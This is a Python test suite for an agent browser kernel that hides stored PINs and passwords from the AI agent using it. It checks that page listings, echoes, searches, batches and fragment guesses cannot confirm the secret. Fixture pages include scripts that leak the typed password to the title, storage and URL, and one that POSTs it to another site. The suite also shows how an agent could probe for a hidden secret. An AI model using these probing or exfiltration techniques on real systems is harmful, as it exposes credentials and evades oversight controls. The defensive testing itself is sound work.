"""What is masked confirms nothing: codes are masked by where they were used, guesses are counted."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from stockade.policy.principal import Principal, Role
from tests.support.callers import Caller
from tests.support.site import Request, Response

PIN = "482913"
VALUE = "Tr0ub4dor&3-xkcd"
LOGIN = """<form action=/in><label>Password <input type=password name=pw></label>
<button>Sign in</button></form><label>Notes <textarea></textarea></label>"""
CODES = " ".join(f"{number:06d}" for number in range(482_000, 483_500))
OTHERS = ("482912", "482914", "482000")


@pytest.fixture
async def keeper(mighty: Caller) -> Caller:
    """An agent of a tenant whose operator keeps a code and a password."""
    tenant = f"tenant-of-{mighty.principal.id}"
    operator = Principal("op", tenant=tenant, role=Role.OPERATOR)
    home = [mighty.site.url("")]
    await mighty.kernel.secrets.keep(operator, "PIN", PIN, home)
    await mighty.kernel.secrets.keep(operator, "PASSWORD", VALUE, home)
    return replace(mighty, principal=replace(mighty.principal, tenant=tenant))


def tells_apart(text: str) -> bool:
    """Whether a text shows the code otherwise than others like it."""
    return any((PIN in text) != (each in text) for each in OTHERS)


async def echo(request: Request) -> Response:
    return Response(f"<p>You looked for {request.params.get('q', '')}</p>{LOGIN}")


READS: list[tuple[str, dict[str, Any]]] = [
    ("snapshot", {"maxResultTokens": 20_000}),
    ("page_text", {"maxResultTokens": 20_000}),
    ("console_read", {}),
    ("localstorage_list", {}),
    ("sessionstorage_get", {"key": "codes"}),
    ("cookies_list", {}),
    ("tabs", {}),
    ("network_read", {}),
    ("read_dom", {}),
    ("frames_list", {}),
]
LISTING = f"""<title>{" ".join(OTHERS)} {PIN}</title><p>{CODES}</p>{LOGIN}<script>
for (const each of {json.dumps([*OTHERS, PIN])}) {{
  console.log(each); localStorage[each] = each; document.cookie = `c${{each}}=${{each}}`;
  fetch('/search?q=' + each);
}}
sessionStorage.codes = {json.dumps(" ".join([*OTHERS, PIN]))};
</script>"""


@pytest.mark.parametrize("used", [False, True], ids=["before", "after"])
@pytest.mark.parametrize(("tool", "given"), READS, ids=[tool for tool, _ in READS])
async def test_a_page_that_lists_codes_does_not_tell_which_it_is(
    keeper: Caller, tool: str, given: dict[str, Any], used: bool
) -> None:
    keeper.site.route("/search", echo)
    if used:
        await keeper.show(LOGIN, path="/login")
        await keeper.ok("fill", selector="[type=password]", value="<PIN>")
    await keeper.show(LISTING, path="/codes")
    reply = await keeper.reply(tool, **given)
    assert reply.ok, reply.text
    assert not tells_apart(reply.text)


@pytest.mark.parametrize("used", [False, True], ids=["before", "after"])
@pytest.mark.parametrize(("tool", "name"), [("text_search", "text"), ("find", "query")])
async def test_what_is_searched_for_is_found_alike(
    keeper: Caller, tool: str, name: str, used: bool
) -> None:
    if used:
        await keeper.show(LOGIN, path="/login")
        await keeper.ok("fill", selector="[type=password]", value="<PIN>")
    await keeper.show("".join(f"<p>{each}</p>" for each in (*OTHERS, PIN)), path="/codes")
    found = []
    for each in (*OTHERS, PIN):
        data = await keeper.ok(tool, **{name: each})
        found.append((data.get("count"), len(data.get("candidates", data.get("matches", ())))))
    assert len(set(found)) == 1, found


async def test_an_address_with_candidates_tells_nothing(keeper: Caller) -> None:
    keeper.site.route("/search", echo)
    await keeper.show(LOGIN, path="/login")
    await keeper.ok("fill", selector="[type=password]", value="<PIN>")
    said = {}
    for code in (PIN, *OTHERS):
        reply = await keeper.reply("navigate", url=keeper.site.url(f"/search?q={code}"))
        text = await keeper.text("page_text")
        said[code] = (
            (reply.data or {}).get("url", "").replace(code, "CODE"),
            code in reply.text,
            code in text,
        )
    assert len(set(said.values())) == 1, said


async def test_what_is_filled_in_and_read_back_tells_nothing(keeper: Caller) -> None:
    await keeper.show(LOGIN)
    await keeper.ok("fill", selector="[type=password]", value="<PIN>")
    said = set()
    for code in (PIN, *OTHERS):
        await keeper.ok("fill", selector="textarea", value=f"is it {code} or not")
        shown = await keeper.text("snapshot")
        verdict = await keeper.reply(
            "verify_value", selector="textarea", value=f"is it {code} or not"
        )
        waited = await keeper.reply("wait_for", text=code, timeoutMs=200)
        said.add((code in shown, verdict.ok, waited.ok))
    assert len(said) == 1, said


async def test_what_a_field_reads_tells_nothing(keeper: Caller) -> None:
    """Of parts of the code either: a text of thousands of them would find it in a few calls."""
    await keeper.show(f"{LOGIN}<label>More <input id=more value=117733></label>")
    await keeper.ok("fill", selector="[type=password]", value="<PIN>")
    for text in ("is it {} or not", "{}"):
        said = set()
        for code in (PIN, PIN[:4], PIN[1:5], *OTHERS, "117733", "1177", "5555"):
            await keeper.ok("fill", selector="textarea", value=text.format(code))
            shown = await keeper.text("snapshot")
            taken = await keeper.reply("press", selector="textarea", key="End")
            [line] = [each for each in shown.splitlines() if '"Notes"' in each]
            said.add((line.partition(": ")[2], taken.ok))
        assert len(said) == 1, said
    # What was there before has nothing to do with it.
    assert (await keeper.reply("press", selector="#more", key="End")).ok


async def test_in_a_batch_nothing_is_told_either(keeper: Caller) -> None:
    await keeper.show(LOGIN)
    await keeper.ok("fill", selector="[type=password]", value="<PIN>")
    said = set()
    for code in (PIN, *OTHERS):
        calls = [
            {"tool": "fill", "args": {"selector": "textarea", "value": code}},
            {"tool": "snapshot", "args": {}},
        ]
        reply = await keeper.reply("batch", calls=calls)
        said.add((reply.ok, code in reply.text))
    assert len(said) == 1, said


async def test_a_script_tells_nothing(keeper: Caller) -> None:
    await keeper.show(f"<p>{CODES}</p>")
    for code in (PIN, *OTHERS):
        reply = await keeper.reply("eval_js", expr=f"'{code}'")
        assert code in reply.text


async def test_where_it_was_used_it_is_not_shown(keeper: Caller) -> None:
    """Echoes of a code: in the document, its address, its title, and in the document after it."""
    keeper.site.route("/in", echo_code)
    await keeper.show(
        LOGIN
        + """<p id=out></p><script>
        document.querySelector('[name=pw]').oninput = ({ target: { value } }) => {
          out.textContent = `You entered ${value}, ${value.slice(0, 3)} ${value.slice(3)}`;
          document.title = value;
          console.log(value);
          localStorage.seen = value;
          history.replaceState(null, '', '?p=' + value);
        };
        </script>"""
    )
    reply = await keeper.reply("fill", selector="[type=password]", value="<PIN>")
    assert reply.ok
    assert PIN not in reply.text
    for tool in ("snapshot", "page_text", "tabs", "console_read", "localstorage_list", "read_dom"):
        told = await keeper.reply(tool)
        assert PIN not in told.text, tool
        assert "482 913" not in told.text, tool
    reply = await keeper.reply("click", selector="button")
    assert PIN not in reply.text
    assert "<PIN>" in await keeper.text("page_text")
    assert PIN not in (await keeper.reply("network_read")).text


async def echo_code(request: Request) -> Response:
    return Response(f"<p>{request.params.get('pw', '')} is not right</p>")


async def test_elsewhere_numbers_stay_what_they_are(keeper: Caller) -> None:
    await keeper.show(LOGIN)
    await keeper.ok("fill", selector="[type=password]", value="<PIN>")
    keeper.site.other.page("/orders", f"<p>Order 123456, and {PIN}</p>")
    await keeper.ok("open_session", session="another")
    there = {"session": "another"}
    await keeper.ok("navigate", url=keeper.site.other.url("/orders"), **there)
    assert "Order 123456" in await keeper.text("page_text", **there)
    opened = await keeper.ok("tabs", action="new", url=keeper.site.other.url("/orders"))
    assert opened
    assert "Order 123456" in await keeper.text("page_text")


# --- parts of a password --------------------------------------------------------------------------

PIECES = ["Tr0ub", "4dor&", "b4dor", "3-xkc", "&3-xk", "ub4do"]


async def test_parts_that_a_caller_tries_out_are_counted_and_refused(
    keeper: Caller, capsys: pytest.CaptureFixture[str]
) -> None:
    heard = keeper.kernel.metrics.text()
    await keeper.show(LOGIN)
    await keeper.ok("fill", selector="[type=password]", value="<PASSWORD>")
    replies = [
        await keeper.reply("fill", selector="textarea", value=f"is it {each}") for each in PIECES
    ]
    assert [each.ok for each in replies[:3]] == [True] * 3
    told = json.loads(replies[-1].text)
    assert told["code"] == "secret_guessed"
    # From now on it does not matter what is tried: nothing is confirmed.
    for value in ("is it wrong", PIECES[0]):
        told = await keeper.refused("fill", selector="textarea", value=value)
        assert told["code"] == "secret_guessed"
    assert (await keeper.refused("snapshot"))["code"] == "secret_guessed"
    assert "parts of a secret were tried out" in "".join(capsys.readouterr())
    assert keeper.kernel.metrics.text() != heard
    # Another session is usable, but for that site: who guesses is not shown what it may tell.
    await keeper.ok("close_session", session="default")
    keeper.site.other.page("/", "<p>elsewhere")
    await keeper.ok("navigate", url=keeper.site.other.url("/"))
    told = await keeper.refused("navigate", url=keeper.site.url("/page"))
    assert told["code"] == "secret_guessed"
    # The operator may keep it anew.
    operator = replace(keeper.principal, id="op", role=Role.OPERATOR)
    await keeper.kernel.secrets.keep(operator, "PASSWORD", VALUE, [keeper.site.url("")])
    await keeper.ok("fill", selector="[type=password]", value="<PASSWORD>")


async def test_a_page_that_lists_parts_shows_none_of_them(keeper: Caller) -> None:
    keeper.site.page("/parts", f"<p>{' '.join(PIECES)} Wr0ng</p>")
    await keeper.show(LOGIN)
    await keeper.ok("fill", selector="[type=password]", value="<PASSWORD>")
    reply = await keeper.reply("navigate", url=keeper.site.url("/parts"))
    text = await keeper.reply("page_text")
    assert json.loads(text.text)["code"] == "secret_guessed"
    assert not any(each in reply.text for each in PIECES)


@pytest.mark.parametrize(
    ("tool", "name"),
    [("text_search", "text"), ("find", "query"), ("wait_for", "text"), ("navigate", "url")],
)
async def test_parts_in_any_argument_count(keeper: Caller, tool: str, name: str) -> None:
    keeper.site.route("/search", echo)
    await keeper.show(LOGIN)
    await keeper.ok("fill", selector="[type=password]", value="<PASSWORD>")
    codes = []
    for each in PIECES:
        value = keeper.site.url(f"/search?q={each}") if name == "url" else each
        more = {"timeoutMs": 200} if tool == "wait_for" else {}
        reply = await keeper.reply(tool, **{name: value}, **more)
        codes.append(None if reply.error is None else reply.error.code)
    assert codes[-1] == "secret_guessed", codes


async def test_parts_in_the_calls_of_a_batch_count(keeper: Caller) -> None:
    await keeper.show(LOGIN)
    await keeper.ok("fill", selector="[type=password]", value="<PASSWORD>")
    calls = [
        {"tool": "fill", "args": {"selector": "textarea", "value": f"is it {each}"}}
        for each in PIECES
    ]
    reply = await keeper.reply("batch", calls=calls)
    assert "secret_guessed" in reply.text


async def test_before_it_is_filled_in_nobody_is_stopped(keeper: Caller) -> None:
    """Parts are not looked for until then, so that there is nothing to confirm."""
    await keeper.show(LOGIN)
    for each in PIECES:
        await keeper.ok("fill", selector="textarea", value=f"is it {each}")
        assert each in await keeper.text("snapshot")


async def test_a_page_does_not_send_a_code_to_another_site(keeper: Caller) -> None:
    other = keeper.site.other
    other.page("/in", "ok")
    await keeper.show(
        f"""{LOGIN}<button id=go onclick="fetch('{other.url("/in")}', {{method: 'POST',
        mode: 'no-cors', body: document.querySelector('[name=pw]').value}})
        .finally(() => document.title = 'done')">Go</button>"""
    )
    await keeper.ok("fill", selector="[type=password]", value="<PIN>")
    await keeper.reply("click", selector="#go")
    await keeper.reply("wait_for", text="Go", timeoutMs=500)
    assert not any(PIN.encode() in each.body for each in other.requests)


async def test_where_a_caller_goes_confirms_no_code(keeper: Caller) -> None:
    keeper.site.other.page("/in", "<p>in")
    await keeper.show(LOGIN)
    await keeper.ok("fill", selector="[type=password]", value="<PIN>")
    there = {
        code: (await keeper.reply("navigate", url=keeper.site.other.url(f"/in?q={code}"))).ok
        for code in (*OTHERS, PIN)
    }
    assert set(there.values()) == {True}, there
